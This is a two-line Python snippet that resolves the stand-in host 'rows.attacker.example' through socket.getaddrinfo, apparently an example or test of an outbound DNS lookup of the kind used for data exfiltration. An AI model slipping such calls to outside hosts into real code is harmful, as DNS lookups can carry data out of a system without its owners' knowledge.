import socket

socket.getaddrinfo("rows.attacker.example", 80)
